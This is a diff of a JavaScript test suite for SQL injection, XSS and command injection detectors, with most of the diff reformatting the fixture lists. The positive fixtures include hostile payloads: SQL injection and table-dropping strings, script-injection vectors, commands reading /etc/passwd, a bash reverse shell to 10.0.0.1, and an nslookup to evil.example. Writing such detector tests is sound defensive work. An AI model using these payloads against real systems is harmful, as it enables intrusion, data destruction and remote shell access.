@@ -83,15 +83,62 @@ describe('SQL tokenizer', () => {
 });
 
 describe('SQL injection rules', () => {
-  const yes = ["' or 1=1--", 'admin\'--', '1 union select null,null', "1' and sleep(5)#", '1; drop table users', "'; exec xp_cmdshell 'dir'--", "' having 1=1--", '1 order by 5--', "'+sleep(5)+'", '0 or true', "') or ('a'='a", "'; waitfor delay '0:0:5'--", '(case when (1=1) then 1 else 2 end)'];
-  const no = ["o'brien", "d'artagnan's letters", 'select one or two items', 'please drop table bookings from the agenda', 'select a from t1 union select a from t2', "the kids' union select committee", 'i want 1 or 2 more', "rock 'n' roll", 'await sleep(1000);', '#general or #support?', 'order by phone or online', "steps: open; select \"export\"; click ok"];
+  const yes = [
+    "' or 1=1--",
+    "admin'--",
+    '1 union select null,null',
+    "1' and sleep(5)#",
+    '1; drop table users',
+    "'; exec xp_cmdshell 'dir'--",
+    "' having 1=1--",
+    '1 order by 5--',
+    "'+sleep(5)+'",
+    '0 or true',
+    "') or ('a'='a",
+    "'; waitfor delay '0:0:5'--",
+    '(case when (1=1) then 1 else 2 end)',
+  ];
+  const no = [
+    "o'brien",
+    "d'artagnan's letters",
+    'select one or two items',
+    'please drop table bookings from the agenda',
+    'select a from t1 union select a from t2',
+    "the kids' union select committee",
+    'i want 1 or 2 more',
+    "rock 'n' roll",
+    'await sleep(1000);',
+    '#general or #support?',
+    'order by phone or online',
+    'steps: open; select "export"; click ok',
+  ];
   for (const s of yes) it(`flags ${s}`, () => expect(detectSqlInjection(s)).toBe(true));
   for (const s of no) it(`passes ${s}`, () => expect(detectSqlInjection(s)).toBe(false));
 });
 
 describe('XSS rules', () => {
-  const yes = ['<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '<svg/onload=alert(1)>', '<a href="java\tscript:alert(1)">x</a>', '" onmouseover="alert(1)', "'-alert(1)-'", 'data:text/html;base64,phnjcmlwdd4=', '<iframe srcdoc="x">', '</script><script>x()</script>'];
-  const no = ['<b>bold</b> and <i>italic</i>', 'x < y and y > z', '<jane@example.com>', 'javascript: the good parts', 'please confirm (by friday)', 'the <script> tag explained', 'onclick handler not firing', '<a href="https://example.com">help</a>', 'javascript:void(0)'];
+  const yes = [
+    '<script>alert(1)</script>',
+    '<img src=x onerror=alert(1)>',
+    '<svg/onload=alert(1)>',
+    '<a href="java\tscript:alert(1)">x</a>',
+    '" onmouseover="alert(1)',
+    "'-alert(1)-'",
+    'data:text/html;base64,phnjcmlwdd4=',
+    '<iframe srcdoc="x">',
+    '</script><script>x()</script>',
+  ];
+  const no = [
+    '<b>bold</b> and <i>italic</i>',
+    'x < y and y > z',
+    '<jane@example.com>',
+    'javascript: the good parts',
+    'please confirm (by friday)',
+    'the <script> tag explained',
+    'onclick handler not firing',
+    '<a href="https://example.com">help</a>',
+    'javascript:void(0)',
+  ];
   for (const s of yes) it(`flags ${JSON.stringify(s)}`, () => expect(detectXss(s)).toBe(true));
   for (const s of no) it(`passes ${JSON.stringify(s)}`, () => expect(detectXss(s)).toBe(false));
 });
@@ -123,12 +170,30 @@ describe('path traversal policy by location', () => {
 
 describe('command injection', () => {
   it('removes quote and backslash obfuscation inside words only', () => {
-    expect(deobfuscateShell("c'a't /etc/pa\"ss\"wd")).toBe('cat /etc/passwd');
+    expect(deobfuscateShell('c\'a\'t /etc/pa"ss"wd')).toBe('cat /etc/passwd');
     expect(deobfuscateShell('w\\ho\\am\\i')).toBe('whoami');
     expect(deobfuscateShell("it's 'quoted'")).toBe("its 'quoted'");
   });
-  const yes = ['; id', '|whoami', '$(sleep 5)', '`id`', 'x;cat${ifs}/etc/passwd', ';{cat,/etc/passwd}', '127.0.0.1 | nslookup evil.example', 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', '; /usr/bin/id', ';"w"h"o"am"i"'];
-  const no = ['tom & jerry', 'r&d budget', 'cats; cat food', 'plans: basic | pro | enterprise', 'ping me when back; echo this to the team', 'salt & pepper; oil & vinegar'];
+  const yes = [
+    '; id',
+    '|whoami',
+    '$(sleep 5)',
+    '`id`',
+    'x;cat${ifs}/etc/passwd',
+    ';{cat,/etc/passwd}',
+    '127.0.0.1 | nslookup evil.example',
+    'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
+    '; /usr/bin/id',
+    ';"w"h"o"am"i"',
+  ];
+  const no = [
+    'tom & jerry',
+    'r&d budget',
+    'cats; cat food',
+    'plans: basic | pro | enterprise',
+    'ping me when back; echo this to the team',
+    'salt & pepper; oil & vinegar',
+  ];
   for (const s of yes) it(`flags ${s}`, () => expect(detectCommandInjection(s, 'request')).toBe(true));
   for (const s of no) it(`passes ${s}`, () => expect(detectCommandInjection(s, 'text')).toBe(false));
   it('does not treat pasted && chains, newlines or markdown backticks in text as injection', () => {
